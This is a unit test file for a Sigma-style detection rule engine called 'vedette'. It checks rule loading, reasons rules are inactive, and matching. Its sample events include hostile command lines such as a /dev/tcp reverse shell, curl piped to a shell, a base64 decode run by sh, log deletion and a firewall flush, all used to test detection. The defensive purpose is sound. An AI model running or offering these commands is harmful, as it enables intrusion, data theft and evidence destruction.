// SPDX-License-Identifier: Apache-2.0
// Rules of the shapes the public collections have: they load as they are, and each is live or says why it is not.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <map>

#include "support.h"

namespace vedette::rules {
namespace {

using ::testing::HasSubstr;

const std::string kDirectory = VEDETTE_SOURCE_DIR "/tests/unit/rules/public_style";

// Why those that are not live are not.
const std::map<std::string, std::string> kDead = {
    {"aws_cloudtrail_console_guessing", "no events of the product 'aws'"},
    {"aws_cloudtrail_key_for_other_user", "no events of the product 'aws'"},
    {"aws_cloudtrail_snapshot_shared", "no events of the product 'aws'"},
    {"dns_query_free_names", "no events of the category 'dns'"},
    {"dns_query_long_label", "no events of the category 'dns'"},
    {"file_event_lnx_cron_files", "no events of the category 'file_event'"},
    {"file_event_lnx_key_added_by_service", "no events of the category 'file_event'"},
    {"file_event_lnx_preload_list", "no events of the category 'file_event'"},
    {"file_event_lnx_sudoers", "no events of the category 'file_event'"},
    {"file_event_lnx_user_unit", "no events of the category 'file_event'"},
    {"file_event_lnx_wget_in_tmp", "no events of the category 'file_event'"},
    {"firewall_cleartext_out", "no events of the category 'firewall'"},
    {"github_protection_weakened", "no events of the product 'github'"},
    {"kubernetes_audit_pod_shell", "no events of the product 'kubernetes'"},
    {"lnx_auditd_change_file_time", "no events of the service 'auditd'"},
    {"lnx_auditd_hidden_files", "no events of the service 'auditd'"},
    {"lnx_auditd_module_from_descriptor", "no events of the service 'auditd'"},
    {"lnx_auditd_ptrace_seize", "no events of the service 'auditd'"},
    {"lnx_auditd_rules_flushed", "no events of the service 'auditd'"},
    {"lnx_auditd_selinux_off", "no events of the service 'auditd'"},
    {"lnx_auditd_shadow_copied", "no events of the service 'auditd'"},
    {"lnx_auditd_system_info", "no events of the service 'auditd'"},
    {"lnx_auth_pwnkit", "no events of the service 'auth'"},
    {"lnx_auth_second_root", "no events of the service 'auth'"},
    {"lnx_auth_su_guessing", "no events of the service 'auth'"},
    {"lnx_clamav_miner_or_shell", "no events of the service 'clamav'"},
    {"lnx_cron_command_from_writable_folder", "no events of the service 'cron'"},
    {"lnx_shell_keywords", "names no category"},
    {"lnx_sshd_forwarding_refused", "no events of the service 'sshd'"},
    {"lnx_sshd_suspicious_errors", "no events of the service 'sshd'"},
    {"lnx_sshd_unknown_users", "no events of the service 'sshd'"},
    {"lnx_sudo_not_allowed", "no events of the service 'sudo'"},
    {"lnx_syslog_agent_crashed", "no events of the service 'syslog'"},
    {"lnx_syslog_promiscuous", "no events of the service 'syslog'"},
    {"lnx_vsftpd_smiling_user", "no events of the service 'vsftpd'"},
    {"net_connection_lnx_mining_pool", "no event has a field 'DestinationHostname'"},
    {"net_connection_lnx_ngrok", "no event has a field 'DestinationHostname'"},
    {"okta_push_fatigue", "no events of the product 'okta'"},
    {"proc_creation_lnx_logon_id", "no event has a field 'LogonId'"},
    {"proc_creation_lnx_unsupported", "its status is 'unsupported'"},
    {"proc_creation_lnx_user_names", "the placeholder '%Administrators%' has no values"},
    {"proc_creation_macos_hidden_account", "no events of the product 'macos'"},
    {"proc_creation_macos_keychain_dump", "no events of the product 'macos'"},
    {"proc_creation_macos_osascript", "no events of the product 'macos'"},
    {"proc_creation_win_encoded_download", "no events of the product 'windows'"},
    {"proc_creation_win_loader_hashes", "no events of the product 'windows'"},
    {"proc_creation_win_lookaround", "no events of the product 'windows'"},
    {"proc_creation_win_script_host_lookaround", "no events of the product 'windows'"},
    {"proxy_no_agent", "no events of the category 'proxy'"},
    {"proxy_script_agent_to_paste_site", "no events of the category 'proxy'"},
    {"registry_set_debugger_value", "no events of the product 'windows'"},
    {"registry_set_restricted_admin", "no events of the product 'windows'"},
    {"web_apache_child_crash", "no events of the service 'apache'"},
    {"web_many_not_found", "no events of the category 'webserver'"},
    {"web_path_traversal", "no events of the category 'webserver'"},
    {"web_php_stream_wrapper", "no events of the category 'webserver'"},
    {"web_template_probe", "no events of the category 'webserver'"},
    {"win_security_password_spray", "no events of the product 'windows'"},
    {"win_system_service_from_share", "no events of the product 'windows'"},
    {"zeek_http_program_from_address", "no events of the product 'zeek'"},
    {"zeek_rdp_from_outside", "no events of the product 'zeek'"},
    {"zeek_smb_admin_share_program", "no events of the product 'zeek'"},
};

// What is said of live ones.
const std::map<std::string, std::string> kNotes = {
    {"proc_creation_lnx_original_name", "no event has a field 'OriginalFileName'"},
};

const Compiled& compiled() {
  static const Compiled kCompiled = [] {
    auto sources = read_rules({kDirectory});
    EXPECT_TRUE(sources);
    return compile(sources.value_or(std::vector<RuleSource>()));
  }();
  return kCompiled;
}

std::string stem(const RuleInfo& rule) { return std::filesystem::path(rule.file).stem().string(); }

TEST(PublicStyle, EveryRuleLoads) {
  for (const Diagnostic& error : compiled().errors) {
    ADD_FAILURE() << error.text();
  }
  EXPECT_TRUE(compiled().rules);
  EXPECT_GE(compiled().infos.size(), 280U);
}

TEST(PublicStyle, EachIsLiveOrSaysWhyNot) {
  for (const RuleInfo& rule : compiled().infos) {
    auto reason = kDead.find(stem(rule));
    if (reason == kDead.end()) {
      EXPECT_EQ(rule.dead, "") << rule.file;
    } else {
      EXPECT_THAT(rule.dead, HasSubstr(reason->second)) << rule.file;
    }
  }
}

TEST(PublicStyle, OnlyWhatIsNotSigmaIsNoted) {
  for (const RuleInfo& rule : compiled().infos) {
    auto note = kNotes.find(stem(rule));
    if (note != kNotes.end()) {
      EXPECT_THAT(rule.notes, ::testing::ElementsAre(note->second)) << rule.file;
    } else if (rule.dead.empty()) {
      EXPECT_EQ(rule.notes, std::vector<std::string>()) << rule.file;
    }
  }
}

struct Finding {
  const char* title;
  testing::Values values;
};

std::vector<std::string> matched(const testing::Values& values, Category category = Category::kProcessCreation) {
  return testing::titles(Matcher(compiled().rules).match(testing::record(category, values), 1));
}

TEST(PublicStyle, LiveOnesFindWhatTheyAreFor) {
  const Finding findings[] = {
      {"Base64 Decoding on the Command Line",
       {{Field::kImage, "/usr/bin/base64"}, {Field::kCommandLine, "base64 -d x"}}},
      {"Execution of Decoded Base64", {{Field::kCommandLine, "echo x | base64 -d | sh"}}},
      {"Shell Path in Base64 at Any Offset", {{Field::kCommandLine, "echo ZXhlYyAvYmluL2Jhc2ggLWk="}}},
      {"Clearing of Linux Logs", {{Field::kImage, "/bin/rm"}, {Field::kCommandLine, "rm -rf /var/log/syslog"}}},
      {"Upload of a File by Curl",
       {{Field::kImage, "/usr/bin/curl"}, {Field::kCommandLine, "curl -T x https://a.example"}}},
      {"Python Starts a Pseudo Terminal",
       {{Field::kImage, "/usr/bin/python3.11"}, {Field::kCommandLine, "python3 -c 'import pty; pty.spawn(\"sh\")'"}}},
      {"Shell Started by a Web Server", {{Field::kParentImage, "/usr/sbin/nginx"}, {Field::kImage, "/usr/bin/whoami"}}},
      {"Program Starts Itself", {{Field::kImage, "/tmp/.x"}, {Field::kParentImage, "/tmp/.X"}}},
      {"Container User outside of Its Range", {{Field::kUserId, "100000"}}},
      {"Archiver with a Password", {{Field::kImage, "/usr/bin/7z"}, {Field::kCommandLine, "7z a —psecret x"}}},
      {"Reverse Shell through a Device File", {{Field::kCommandLine, "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"}}},
      {"Two Ways to Stop a Firewall", {{Field::kImage, "/sbin/iptables"}, {Field::kCommandLine, "iptables -F"}}},
      {"Download and Execution in One Line", {{Field::kCommandLine, "curl -s https://a.example | SH"}}},
      {"Old Way to Find a Web Shell", {{Field::kParentImage, "/usr/sbin/php-fpm"}}},
  };
  for (const Finding& finding : findings) {
    EXPECT_THAT(matched(finding.values), ::testing::Contains(finding.title));
  }
}

TEST(PublicStyle, LiveOnesLeaveAloneWhatTheyExcept) {
  EXPECT_THAT(matched({{Field::kImage, "/usr/bin/curl"}, {Field::kCommandLine, "curl -T x http://localhost/"}}),
              ::testing::IsEmpty());
  EXPECT_THAT(matched({{Field::kUserId, "100000"}, {Field::kContainerId, "c"}}), ::testing::IsEmpty());
  testing::Values connection = {
      {Field::kInitiated, "true"}, {Field::kDestinationPort, "4444"}, {Field::kDestinationIp, "192.0.2.1"}};
  EXPECT_THAT(matched(connection, Category::kNetworkConnection),
              ::testing::ElementsAre("Connection to a Usual Back Connect Port"));
  connection[2].second = "172.31.0.1";
  EXPECT_THAT(matched(connection, Category::kNetworkConnection), ::testing::IsEmpty());
}

TEST(PublicStyle, PlaceholdersBringOneToLife) {
  CompileOptions options;
  options.placeholders = {{"Administrators", {"root", "adm_*"}}};
  auto sources = read_rules({kDirectory});
  ASSERT_TRUE(sources);
  Compiled with = compile(*sources, options);
  ASSERT_TRUE(with.rules);
  auto event = testing::record(Category::kProcessCreation, {{Field::kImage, "/bin/wget"}, {Field::kUser, "adm_x"}});
  EXPECT_EQ(testing::titles(Matcher(with.rules).match(event, 1)),
            std::vector<std::string>{"Privileged Account Runs a Downloader"});
}

TEST(PublicStyle, RulesWithoutIdOrLevelHaveThem) {
  for (const RuleInfo& rule : compiled().infos) {
    EXPECT_EQ(rule.id.size(), 36U) << rule.file;
    if (stem(rule) == "proc_creation_lnx_list_of_conditions") {
      EXPECT_EQ(rule.level, Level::kMedium);
    }
  }
}

}  // namespace
}  // namespace vedette::rules
